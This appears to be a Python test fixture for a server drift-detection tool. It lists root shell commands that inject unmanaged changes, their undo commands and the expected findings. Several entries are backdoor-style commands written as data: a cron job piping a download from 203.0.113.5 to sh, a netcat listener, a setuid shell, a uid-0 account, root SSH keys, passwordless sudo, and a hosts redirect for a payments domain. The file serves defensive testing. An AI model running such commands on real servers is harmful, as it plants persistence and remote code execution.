"""
Every drift that the tests inject by hand, one entry each; docs/drift.md is made from this table.

``python -m tests.server.drifts`` writes that page's table.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path

PAGE = Path(__file__).resolve().parents[2] / "docs/drift.md"
BEGIN, END = "<!-- drifts: begin -->", "<!-- drifts: end -->"

APPLY = "apply"
ANONYMOUS = "0123456789abcdef" * 4
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0JYV1pOqc2aBCbTqL0BQhXcBP1TkYGpZtFvvPpVnmE"
SLEEP = "--entrypoint sleep toybox/web:1 infinity"


def listens(port: int, kind: str = "t") -> str:
    """Shell code that waits until something listens on a port: ``t`` for TCP, ``u`` for UDP."""
    return f"until ss -Hln{kind} sport = :{port} | grep -q .; do sleep 0.1; done"


@dataclass(frozen=True)
class Injected:
    """One thing that somebody does to a server by hand."""

    title: str
    """For the documentation."""
    do: str
    """Shell code, run as root."""
    undo: str
    """Shell code; `APPLY` when ``standfast apply`` repairs it."""
    id: str
    """Of the finding."""
    words: tuple[str, ...]
    """Each stands in the finding's line."""
    round: int
    """What is in one round is injected together: such things do not meet."""
    also: tuple[str, ...] = ()
    """Further findings that come with it."""
    kind: str = "unmanaged"


def managed(
    title: str, do: str, id: str, *words: str, round: int, kind: str = "changed", also: tuple[str, ...] = ()
) -> Injected:
    """A drift of something declared: apply repairs it."""
    return Injected(title, do, APPLY, id, words, round, also, kind)


def file(
    title: str,
    path: str,
    text: str,
    *words: str,
    round: int = 1,
    mode: str = "644",
    id: str = "",
    after: str = "",
) -> Injected:
    """A file that somebody put there."""
    do = f"mkdir -p $(dirname {path}); printf '%s\\n' '{text}' > {path}; chmod {mode} {path}; {after}"
    undo = f"rm -f {path}; {after}"
    return Injected(title, do, undo, id or f"file:{path}", ("not declared", *words), round)


def edited(title: str, path: str, *words: str, line: str = "# by hand", round: int = 1) -> Injected:
    """A line that somebody added to a file of the system's."""
    kept = f"/var/tmp/kept-{path.replace('/', '-')}"  # noqa: S108 - on the server, and nobody else is there
    do = f"cp -a {path} {kept}; printf '%s\\n' '{line}' >> {path}"
    return Injected(
        title, do, f"cp -a {kept} {path}; rm {kept}", f"file:{path}", words, round, kind="changed"
    )


def rule(title: str, family: str, table: str, spec: str, *words: str, round: int = 2) -> Injected:
    """A rule that somebody added to the packet filter."""
    tool = "iptables" if family == "ipv4" else "ip6tables"
    return Injected(
        title,
        f"{tool} -t {table} -A {spec}",
        f"{tool} -t {table} -D {spec}",
        f"firewall:{family}/{table} -A {spec}",
        ("not declared", *words),
        round,
    )


FILES = (
    file("a file in /etc/cron.d", "/etc/cron.d/sync", "*/5 * * * * root curl -s https://203.0.113.5/x | sh", "cron", "203.0.113.5"),
    file("a script in /etc/cron.daily", "/etc/cron.daily/cleanup", "#!/bin/sh", "root runs it every day", mode="755"),
    edited("/etc/crontab edited", "/etc/crontab", "cron", "changed by hand", line="0 4 * * * root reboot"),
    file("a list of who may use cron", "/etc/cron.allow", "root", "cron", round=2),
    Injected(
        "a crontab of root",
        "echo '0 3 * * * /root/dump.sh' | crontab -u root -",
        "crontab -u root -r",
        "crontab:root",
        ("runs as root", "/root/dump.sh"),
        1,
    ),
    Injected(
        "a crontab of another account",
        "echo '@reboot nc -l 4444' | crontab -u backup -",
        "crontab -u backup -r",
        "crontab:backup",
        ("runs as backup", "nc -l 4444"),
        1,
    ),
    Injected(
        "a job for at(1)",
        "mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\\numask 22\\nreboot\\n' > /var/spool/cron/atjobs/a00001",
        "rm -r /var/spool/cron/atjobs",
        "at:a00001",
        ("runs once", "reboot"),
        1,
    ),
    file(
        "a unit file in /etc/systemd/system",
        "/etc/systemd/system/miner.service",
        "[Service]\nExecStart=/opt/miner --fast\n[Install]\nWantedBy=multi-user.target",
        "systemd",
        "/opt/miner --fast",
        after="systemctl daemon-reload",
    ),
    file(
        "a timer in /usr/local/lib/systemd",
        "/usr/local/lib/systemd/system/nightly.timer",
        "[Timer]\nOnCalendar=daily",
        "OnCalendar=daily",
        after="systemctl daemon-reload",
    ),
    file(
        "a drop-in that changes a service",
        "/etc/systemd/system/docker.service.d/override.conf",
        "[Service]\nLimitNOFILE=1000",
        "LimitNOFILE=1000",
        after="systemctl daemon-reload",
    ),
    Injected(
        "a masked unit",
        "systemctl mask --quiet fstrim.service",
        "systemctl unmask --quiet fstrim.service",
        "file:/etc/systemd/system/fstrim.service",
        ("masked", "cannot be started"),
        1,
    ),
    file("a rule for sudo", "/etc/sudoers.d/eve", "eve ALL=(ALL) NOPASSWD: ALL", "become root", "eve ALL", mode="440"),
    edited("/etc/sudoers edited", "/etc/sudoers", "become root", "changed by hand"),
    file("a further file for sshd", "/etc/ssh/sshd_config.d/99-tmp.conf", "PermitRootLogin yes", "sshd", "PermitRootLogin yes"),
    edited("sshd's main file edited", "/etc/ssh/sshd_config", "sshd", "changed by hand", line="MaxStartups 3"),
    file("a package source", "/etc/apt/sources.list.d/other.list", "deb http://203.0.113.9/debian trixie main", "packages come from there", "203.0.113.9"),
    edited("/etc/apt/sources.list edited", "/etc/apt/sources.list", "packages come from there", "changed by hand"),
    file("a key for packages", "/etc/apt/keyrings/other.asc", "key", "trusted"),
    file("a pin of a package's version", "/etc/apt/preferences.d/pin", "Package: curl\nPin: version 7*\nPin-Priority: 1001", "pins", "curl"),
    file("a setting of apt", "/etc/apt/apt.conf.d/99local", 'APT::Get::AllowUnauthenticated "true";', "apt", "AllowUnauthenticated"),
    file("a kernel setting for the next boot", "/etc/sysctl.d/99-tuning.conf", "vm.overcommit_memory = 1", "kernel", "overcommit"),
    file("a kernel module for the next boot", "/etc/modules-load.d/dummy.conf", "dummy", "kernel modules", "dummy"),
    file("a kernel module forbidden", "/etc/modprobe.d/no-usb.conf", "blacklist usb-storage", "kernel modules", "usb-storage"),
    file("a library loaded into every program", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libm.so.6", "every program", "libm"),
    file("a folder for libraries", "/etc/ld.so.conf.d/zz-local.conf", "/opt/lib", "libraries", "/opt/lib"),
    file("a script for every login", "/etc/profile.d/prompt.sh", "export PATH=/opt/bin:$PATH", "login", "/opt/bin"),
    edited("/etc/environment edited", "/etc/environment", "environment", "PROXY", line="HTTP_PROXY=http://203.0.113.8:3128"),
    edited("/etc/profile edited", "/etc/profile", "login", "changed by hand"),
    file("/etc/rc.local", "/etc/rc.local", "#!/bin/sh", "boot", mode="755"),
    file("a script for the greeting at login", "/etc/update-motd.d/99-hello", "#!/bin/sh", "root runs it at every login", mode="755"),
    file("a program in /usr/local/sbin", "/usr/local/sbin/htop", "#!/bin/sh", "before the system", mode="755"),
    file("a program in /usr/local/bin", "/usr/local/bin/psql", "#!/bin/sh", "before the system", mode="755"),
    file("a further certificate authority", "/usr/local/share/ca-certificates/corp.crt", "x", "certificate authority"),
    file("a further file in /etc/docker", "/etc/docker/seccomp.json", "{}", "Docker"),
    file("a file in /etc that belongs to nobody", "/etc/haproxy.cfg", "x", "belongs to no package"),
    edited("/etc/fstab edited", "/etc/fstab", "mounted at boot", "changed by hand"),
    edited("/etc/resolv.conf edited", "/etc/resolv.conf", "names are asked", "changed by hand", line="# nameserver 203.0.113.7"),
    edited("/etc/nsswitch.conf edited", "/etc/nsswitch.conf", "accounts and names", "changed by hand"),
    edited("PAM edited", "/etc/pam.d/common-auth", "who may log in", "changed by hand"),
    edited("the network's configuration edited", "/etc/systemd/network/10-host0.network", "network", "changed by hand"),
    edited("a package's configuration file edited", "/etc/logrotate.conf", "came with the package logrotate", "changed by hand"),
    Injected(
        "a package's configuration file removed",
        "mv /etc/cron.daily/dpkg /var/tmp/",
        "mv /var/tmp/dpkg /etc/cron.daily/",
        "file:/etc/cron.daily/dpkg",
        ("every day", "gone"),
        1,
        kind="changed",
    ),
    Injected(
        "what cloud-init wrote for sshd, edited",
        "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config.d/50-cloud-init.conf",
        "sed -i 's/PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config.d/50-cloud-init.conf",
        "file:/etc/ssh/sshd_config.d/50-cloud-init.conf",
        ("sshd", "PasswordAuthentication yes"),
        1,
    ),
    Injected(
        "a name in /etc/hosts",
        "echo '203.0.113.66 api.payments.example' >> /etc/hosts",
        "sed -i /payments/d /etc/hosts",
        "hosts:api.payments.example",
        ("leads to 203.0.113.66",),
        1,
    ),
)  # fmt: skip

PEOPLE = (
    Injected(
        "a program that runs as root whoever starts it",
        "cp /usr/bin/dash /var/tmp/sh; chmod 4755 /var/tmp/sh",
        "rm /var/tmp/sh",
        "suid:/var/tmp/sh",
        ("the rights of root (4755)",),
        1,
    ),
    Injected(
        "a program of a package that got the rights of root",
        "chmod u+s /usr/bin/find",
        "chmod u-s /usr/bin/find",
        "suid:/usr/bin/find",
        ("the rights of root (4755)",),
        1,
    ),
    Injected(
        "an account",
        "useradd --create-home --shell /bin/bash eve; install -d -m 700 -o eve ~eve/.ssh; "
        f"echo '{KEY} eve' > ~eve/.ssh/authorized_keys",
        "userdel --remove eve",
        "account:eve",
        ("not declared", "/bin/bash", "1 SSH key"),
        1,
    ),
    Injected(
        "an account that may become root",
        "useradd --groups docker mallory",
        "userdel mallory",
        "account:mallory",
        ("in docker, so it can become root",),
        1,
    ),
    Injected(
        "root under another name",
        "useradd --non-unique --uid 0 --no-create-home toor",
        "sed -i /^toor:/d /etc/passwd /etc/shadow; sed -i /^toor:/d /etc/group /etc/gshadow",
        "account:toor",
        ("root under another name",),
        1,
    ),
    Injected(
        "a service's account with a shell",
        "usermod --shell /bin/bash www-data",
        "usermod --shell /usr/sbin/nologin www-data",
        "account:www-data",
        ("not declared", "/bin/bash"),
        1,
    ),
    Injected(
        "a password for root",
        "echo root:hunter2hunter2 | chpasswd",
        "usermod --password '*' root",
        "password:root",
        ("has a password", "root"),
        1,
    ),
    Injected(
        "a password for a declared account",
        "echo hanako:hunter2hunter2 | chpasswd",
        "usermod --password '!' hanako",
        "password:hanako",
        ("has a password", "only keys"),
        1,
    ),
    Injected(
        "an account that needs no password",
        "passwd --quiet --delete games",
        "usermod --password '*' games",
        "password:games",
        ("asks for none",),
        1,
    ),
    Injected(
        "a declared account in a group that equals root",
        "gpasswd --add hanako docker",
        "gpasswd --delete hanako docker",
        "group:docker/hanako",
        ("not declared", "can become root"),
        1,
    ),
    Injected(
        "an SSH key of root",
        f"install -d -m 700 ~root/.ssh; echo '{KEY} mallory@home' >> ~root/.ssh/authorized_keys",
        "rm ~root/.ssh/authorized_keys",
        "key:root/SHA256:*",
        ("mallory@home can log in",),
        1,
    ),
    Injected(
        "a second SSH key of the account that standfast uses",
        f"echo '{KEY} old laptop' >> ~ops/.ssh/authorized_keys",
        "sed -i '/old laptop/d' ~ops/.ssh/authorized_keys",
        "key:ops/SHA256:*",
        ("old laptop can log in",),
        1,
    ),
    Injected(
        "an SSH key in a second file",
        f"echo '{KEY} side door' > ~hanako/.ssh/authorized_keys2",
        "rm ~hanako/.ssh/authorized_keys2",
        "key:hanako/SHA256:*",
        ("side door can log in", "authorized_keys2"),
        1,
    ),
)

PACKAGES = (
    Injected("a package held back", "apt-mark -qq hold curl", "apt-mark -qq unhold curl", "hold:curl", ("no security updates",), 1),
    Injected(
        "a package installed by hand",
        "apt-get -qq install -y tree > /dev/null 2>&1",
        "apt-get -qq purge -y tree > /dev/null 2>&1",
        "package:tree",
        ("installed by hand",),
        4,
        kind="noted",
    ),
    Injected(
        "a command pointed elsewhere",
        "update-alternatives --quiet --set pager /bin/more 2> /dev/null || update-alternatives --quiet --set pager /usr/bin/more",
        "update-alternatives --quiet --auto pager",
        "alternative:pager",
        ("more", "by hand"),
        1,
        kind="changed",
    ),
)  # fmt: skip

UNITS = (
    Injected("cron stopped", "systemctl stop cron", "systemctl start cron", "unit:cron.service", ("stopped",), 2, kind="changed"),
    Injected(
        "a stock timer disabled",
        "systemctl disable --quiet --now logrotate.timer",
        "systemctl enable --quiet --now logrotate.timer",
        "unit:logrotate.timer",
        ("does not start at boot",),
        1,
        kind="changed",
    ),
    Injected(
        "a service that failed",
        "systemd-run --quiet --unit=import false; until systemctl --quiet is-failed import; do sleep 0.1; done",
        "systemctl reset-failed import",
        "unit:import.service",
        ("failed (exit-code)",),
        2,
        kind="changed",
    ),
    Injected(
        "a timer made at run time",
        "systemd-run --quiet --unit=later --on-active=1h /bin/true",
        "systemctl stop later.timer",
        "unit:later.timer",
        ("not declared", "gone after a reboot"),
        1,
    ),
    Injected(
        "a service started with systemd-run",
        "systemd-run --quiet --unit=tunnel sleep infinity",
        "systemctl stop tunnel",
        "unit:tunnel.service",
        ("not declared", "sleep"),
        1,
    ),
)  # fmt: skip

KERNEL = (
    Injected(
        "a kernel setting changed until the next boot",
        "sysctl -qw net.ipv4.conf.default.rp_filter=0",
        "sysctl -qw net.ipv4.conf.default.rp_filter=2",
        "sysctl:net.ipv4.conf.default.rp_filter",
        ("is 0", "says 2"),
        1,
        kind="changed",
    ),
    Injected(
        "forwarding switched off, which cuts containers off",
        "sysctl -qw net.ipv4.ip_forward=0",
        "sysctl -qw net.ipv4.ip_forward=1",
        "sysctl:net.ipv4.ip_forward",
        ("containers reach nothing",),
        2,
        kind="changed",
    ),
)

MOUNTS = (
    Injected(
        "a file system that /etc/fstab does not know",
        "mkdir -p /mnt/new; mount -t tmpfs -o size=1m none /mnt/new",
        "umount /mnt/new",
        "mount:/mnt/new",
        ("not in /etc/fstab", "tmpfs"),
        2,
    ),
    Injected(
        "a file system that is full",
        "mkdir -p /mnt/full; mount -t tmpfs -o size=1m none /mnt/full; head -c 980000 /dev/zero > /mnt/full/x",
        "umount /mnt/full",
        "disk:/mnt/full",
        ("% full", "MB free"),
        2,
        also=("mount:/mnt/full",),
        kind="changed",
    ),
    Injected(
        "a file system that is read-only",
        "mkdir -p /mnt/frozen; mount -t tmpfs -o size=1m none /mnt/frozen; mount -o remount,ro /mnt/frozen",
        "umount /mnt/frozen",
        "mount:/mnt/frozen",
        ("read-only", "nothing can be written"),
        2,
        kind="changed",
    ),
    Injected(
        "a file system of /etc/fstab that is not mounted",
        "cp -a /etc/fstab /var/tmp/kept-fstab; echo '/dev/vdz /mnt/archive ext4 defaults 0 2' >> /etc/fstab",
        "cp -a /var/tmp/kept-fstab /etc/fstab",
        "mount:/mnt/archive",
        ("not mounted",),
        2,
        also=("file:/etc/fstab",),
        kind="changed",
    ),
)

DOCKER = (
    Injected(
        "a container that publishes a port",
        f"docker run -d --name clever_wozniak -p 6379:6379 {SLEEP}",
        "docker rm -f clever_wozniak",
        "container:clever_wozniak",
        ("image toybox/web:1", "publishes", "6379/tcp", "does not let it in"),
        2,
    ),
    Injected(
        "a container that has ended",
        "docker run --name migration --entrypoint true toybox/web:1",
        "docker rm -f migration",
        "container:migration",
        ("exited",),
        2,
    ),
    Injected(
        "a container of another Compose project",
        f"docker run -d --name old-web-1 --label com.docker.compose.project=old {SLEEP}",
        "docker rm -f old-web-1",
        "container:old-web-1",
        ("Compose project old",),
        2,
    ),
    Injected(
        "a container left by `docker compose run`",
        "cd /srv/apps/toybox && docker compose run -d --no-deps --name leftover --entrypoint sleep web infinity",
        "docker rm -f leftover",
        "container:leftover",
        ("left by `docker compose run`", "toybox"),
        2,
    ),
    Injected(
        "a container in the host's network",
        f"docker run -d --name hosted --network host --entrypoint python3 toybox/web:1 -m http.server 7070; {listens(7070)}",
        "docker rm -f hosted",
        "port:tcp/7070",
        ("in container hosted", "does not let it in"),
        2,
        also=("container:hosted",),
    ),
    Injected(
        "an anonymous volume with a database in it, used by nobody",
        f"docker volume create {ANONYMOUS}; place=$(docker volume inspect -f '{{{{.Mountpoint}}}}' {ANONYMOUS}); "
        "mkdir -p $place/base/1; echo 17 | tee $place/PG_VERSION > $place/base/1/PG_VERSION; "
        "head -c 3000000 /dev/zero > $place/base/1/1259",
        f"docker volume rm {ANONYMOUS}",
        f"volume:{ANONYMOUS}",
        ("PostgreSQL 17 data", "3 MB", "used by no container", "prune"),
        2,
    ),
    Injected(
        "an anonymous volume that a container uses",
        f"docker run -d --name redis -v {'fedcba9876543210' * 4}:/data {SLEEP}",
        f"docker rm -f redis; docker volume rm {'fedcba9876543210' * 4}",
        f"volume:{'fedcba9876543210' * 4}",
        ("no name", "used by redis at /data"),
        2,
        also=("container:redis",),
    ),
    Injected(
        "a named volume that is not declared",
        "docker volume create scratch",
        "docker volume rm scratch",
        "volume:scratch",
        ("not declared", "used by no container"),
        2,
        kind="noted",
    ),
    Injected(
        "a folder of an application that is gone",
        "mkdir -p /srv/apps/shop",
        "rmdir /srv/apps/shop",
        "app:shop",
        ("not declared",),
        2,
    ),
    Injected(
        "a Docker context that leads elsewhere",
        "docker context create staging --docker host=tcp://127.0.0.1:2; docker context use staging",
        "docker context use default; docker context rm staging; rm -r /root/.docker",
        "context:root/staging",
        ("127.0.0.1:2", "another machine"),
        5,
    ),
    Injected(
        "a second Docker daemon",
        "mkdir -p /var/lib/docker/second /run/docker2; setsid unshare --net dockerd --data-root /var/lib/docker/second --exec-root /run/docker2 "
        "--pidfile /run/docker2.pid -H unix:///run/docker2/docker.sock --iptables=false --ip6tables=false --bridge=none "
        "--config-file /dev/null > /var/tmp/docker2.log 2>&1 < /dev/null & "
        "until [ -S /run/docker2/docker.sock ]; do sleep 0.3; done",
        "kill $(cat /run/docker2.pid); while [ -e /run/docker2.pid ]; do sleep 0.2; done; "
        "rm -rf /run/docker2* /var/lib/docker/second",
        "daemon:/var/lib/docker/second",
        ("a second Docker daemon", "/var/lib/docker/second"),
        3,
        also=("refused:docker",),
    ),
)

PORTS = (
    Injected(
        "a program that listens on a TCP port",
        "setsid python3 -m http.server 9999 --directory /mnt > /dev/null 2>&1 < /dev/null & echo $! > /run/web.pid; "
        + listens(9999),
        "kill $(cat /run/web.pid)",
        "port:tcp/9999",
        ("python3", "http.server 9999", "does not let it in"),
        2,
    ),
    Injected(
        "a program that listens on a UDP port",
        "setsid python3 -c 'import socket, time; s = socket.socket(type=socket.SOCK_DGRAM); "
        's.bind(("", 1194)); time.sleep(999)\' > /dev/null 2>&1 < /dev/null & echo $! > /run/vpn.pid; ' + listens(1194, "u"),
        "kill $(cat /run/vpn.pid)",
        "port:udp/1194",
        ("python3",),
        2,
    ),
    Injected(
        "a program that listens on an IPv6 address only",
        "setsid python3 -m http.server 9998 --bind :: --directory /mnt > /dev/null 2>&1 < /dev/null & "
        f"echo $! > /run/web6.pid; {listens(9998)}",
        "kill $(cat /run/web6.pid)",
        "port:tcp/9998",
        ("http.server 9998",),
        2,
    ),
    Injected(
        "a second SSH server",
        "/usr/sbin/sshd -p 2222 -o PidFile=/run/sshd2.pid",
        "kill $(cat /run/sshd2.pid)",
        "port:tcp/2222",
        ("sshd", "not declared"),
        2,
    ),
)  # fmt: skip

FIREWALL = (
    rule("a rule for incoming connections", "ipv4", "filter", "INPUT -p tcp -m tcp --dport 5432 -j ACCEPT", "--dport 5432"),
    rule("a rule for IPv6", "ipv6", "filter", "INPUT -p tcp -m tcp --dport 5432 -j ACCEPT", "--dport 5432"),
    rule("a redirection", "ipv4", "nat", "PREROUTING -p tcp -m tcp --dport 8080 -j REDIRECT --to-ports 22", "--dport 8080"),
    rule("a rule in the table mangle", "ipv4", "mangle", "OUTPUT -p udp -j ACCEPT", "-p udp"),
    rule("a rule in the table raw", "ipv4", "raw", "PREROUTING -s 203.0.113.0/24 -j DROP", "203.0.113.0/24"),
    rule("a rule in Docker's chain for users", "ipv4", "filter", "DOCKER-USER -s 203.0.113.0/24 -j ACCEPT", "203.0.113.0/24"),
    rule("a rule inside one of Docker's own chains", "ipv4", "filter", "DOCKER -p tcp -j ACCEPT", "-p tcp"),
    Injected(
        "a chain with rules",
        "iptables -N f2b-sshd; iptables -A f2b-sshd -s 203.0.113.4 -j REJECT; iptables -A f2b-sshd -j RETURN; iptables -A INPUT -j f2b-sshd",
        "iptables -D INPUT -j f2b-sshd; iptables -F f2b-sshd; iptables -X f2b-sshd",
        "firewall:ipv4/filter/f2b-sshd",
        ("2 rules", "-A INPUT -j f2b-sshd"),
        2,
    ),
    Injected(
        "another policy",
        "iptables -P INPUT DROP",
        "iptables -P INPUT ACCEPT",
        "firewall:ipv4/filter/INPUT",
        ("policy is DROP",),
        2,
    ),
    Injected(
        "a table of nft, and its service enabled",
        "apt-get -qq install -y nftables > /dev/null 2>&1; nft add table inet mine; systemctl enable --quiet nftables",
        "nft delete table inet mine; systemctl disable --quiet nftables; apt-get -qq purge -y nftables > /dev/null 2>&1",
        "firewall:nft/inet mine",
        ("not declared", "iptables does not show them"),
        6,  # on its own: what is edited while apt works counts as apt's
        also=("firewall:nftables", "package:nftables", "refused:firewall"),
    ),
    Injected(
        "Docker's rules flushed",
        "systemctl stop standfast-watchdog; iptables -t nat -F; iptables -t nat -X",
        "systemctl restart docker; systemctl start standfast-watchdog",
        "firewall:ipv4/nat/DOCKER",
        ("published ports are dead", "systemctl restart docker"),
        4,
        kind="missing",
        also=("unit:standfast-watchdog.service",),
    ),
)  # fmt: skip

DECLARED = (
    managed("rules of our chain removed", "iptables -D STANDFAST-INPUT -p icmp -j ACCEPT; iptables -D STANDFAST-INPUT -j DROP", "firewall:IPv4-firewall", "rules missing", round=3),
    managed("a rule added to our chain", "ip6tables -I STANDFAST-INPUT -p tcp --dport 23 -j ACCEPT", "firewall:IPv6-firewall", "1 added by hand", round=4),
    managed("our firewall rules for the next boot edited", "echo '# x' >> /etc/standfast/firewall/ipv4.rules", "file:/etc/standfast/firewall/ipv4.rules", "not as declared", round=4),
    managed("the firewall's service disabled", "systemctl disable --quiet standfast-firewall", "unit:standfast-firewall.service", "boot", round=4),
    managed("the Caddyfile edited", "sed -i s/8000/8001/ /etc/caddy/Caddyfile; systemctl reload caddy", "file:/etc/caddy/Caddyfile", "not as declared", round=3),
    managed("Caddy reconfigured by its API", "curl -sf -X POST -H 'Content-Type: application/json' -d '{}' http://127.0.0.1:2019/load", "unit:caddy.service", "somebody used its API", round=4),
    managed("the Compose file edited", "sed -i 's/^services:/services: # x/' /srv/apps/toybox/compose.yml", "file:/srv/apps/toybox/compose.yml", "not as declared", round=3),
    managed("a secret file that everybody can read", "chmod 644 /srv/apps/toybox/.env", "file:/srv/apps/toybox/.env", "644 → root:root 600", round=3),
    managed("the application's folder open to everybody", "chmod 777 /srv/apps/toybox", "file:/srv/apps/toybox/", "777 → root:root 750", round=4),
    managed("a service of the application stopped", "docker stop -t 1 toybox-web-1", "service:toybox/web", "stopped", round=3),
    managed("a service's container removed", "docker rm -f toybox-web-1", "service:toybox/web", "not there", round=4, kind="missing"),
    managed("another image under the declared name", "DOCKER_CONTEXT=default docker tag toybox/postgres:17 toybox/web:1", "image:toybox/web:1", "not as declared", round=5, also=("service:toybox/web",)),
    managed("a declared volume gone", "docker volume rm toybox_spare", "volume:toybox_spare", "not there", round=3, kind="missing"),
    managed("Docker's configuration edited", "sed -i 's/json-file/local/' /etc/docker/daemon.json", "file:/etc/docker/daemon.json", "not as declared", round=4),
    managed("Docker not started at boot", "systemctl disable --quiet docker.service", "unit:docker.service", "boot", round=4),
    managed("our file for sshd edited", "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config.d/00-standfast.conf", "file:/etc/ssh/sshd_config.d/00-standfast.conf", "not as declared", round=3),
    managed("our file for sshd removed", "rm /etc/ssh/sshd_config.d/00-standfast.conf", "file:/etc/ssh/sshd_config.d/00-standfast.conf", "not there", round=4, kind="missing"),
    managed("another time zone", "timedatectl set-timezone Etc/UTC", "base:time-zone", "Etc/UTC → Asia/Tokyo", round=3),
    managed("another host name", "hostnamectl set-hostname kyoto", "base:hostname", "kyoto", round=3),
    managed("the right to sudo taken away", "rm /etc/sudoers.d/standfast-hanako", "file:/etc/sudoers.d/standfast-hanako", "not there", round=3, kind="missing"),
    managed("a key added to a declared account", f"echo '{KEY} other' >> ~hanako/.ssh/authorized_keys", "base:hanako's-authorized_keys", "not as declared", round=3),
    managed("another shell for a declared account", "usermod --shell /bin/sh hanako", "account:hanako", "/bin/sh → /bin/bash", round=3),
    managed("a declared package removed", "dpkg -r htop", "package:htop", "not there", round=3, kind="missing"),
    managed("security updates switched off", "sed -i s/1/0/ /etc/apt/apt.conf.d/20auto-upgrades", "file:/etc/apt/apt.conf.d/20auto-upgrades", "not as declared", round=3),
    managed("the daily updates' timer stopped", "systemctl disable --quiet --now apt-daily.timer", "unit:apt-daily.timer", "boot", round=3),
    managed("Caddy stopped", "systemctl stop caddy", "unit:caddy.service", "stopped", round=5),
)  # fmt: skip

DRIFTS = (*FILES, *PEOPLE, *PACKAGES, *UNITS, *KERNEL, *MOUNTS, *DOCKER, *PORTS, *FIREWALL, *DECLARED)


def table() -> str:
    """All drifts as a table for the documentation."""
    sections = (
        ("Files, schedules, units", (*FILES, *UNITS)),
        ("Accounts and keys", PEOPLE),
        ("Packages, kernel, file systems", (*PACKAGES, *KERNEL, *MOUNTS)),
        ("Docker", DOCKER),
        ("Ports and packet filter", (*PORTS, *FIREWALL)),
        ("What is declared", DECLARED),
    )
    lines = [BEGIN, ""]
    for heading, drifts in sections:
        lines += [f"### {heading}", "", "| by hand | finding | kind | repaired by |", "|---|---|---|---|"]
        for each in drifts:
            repair = "`apply`" if each.undo == APPLY else "you" if each.kind != "noted" else "—"
            name = each.id.replace("|", "\\|")
            lines.append(f"| {each.title} | `{name}` | {each.kind} | {repair} |")
        lines.append("")
    return "\n".join([*lines, END])


def main() -> None:
    """Write the table into the page."""
    text = PAGE.read_text(encoding="utf-8")
    before, _, rest = text.partition(BEGIN)
    _, _, after = rest.partition(END)
    PAGE.write_text(before + table() + after, encoding="utf-8")
    sys.stdout.write(f"{len(DRIFTS)} drifts\n")


if __name__ == "__main__":
    main()
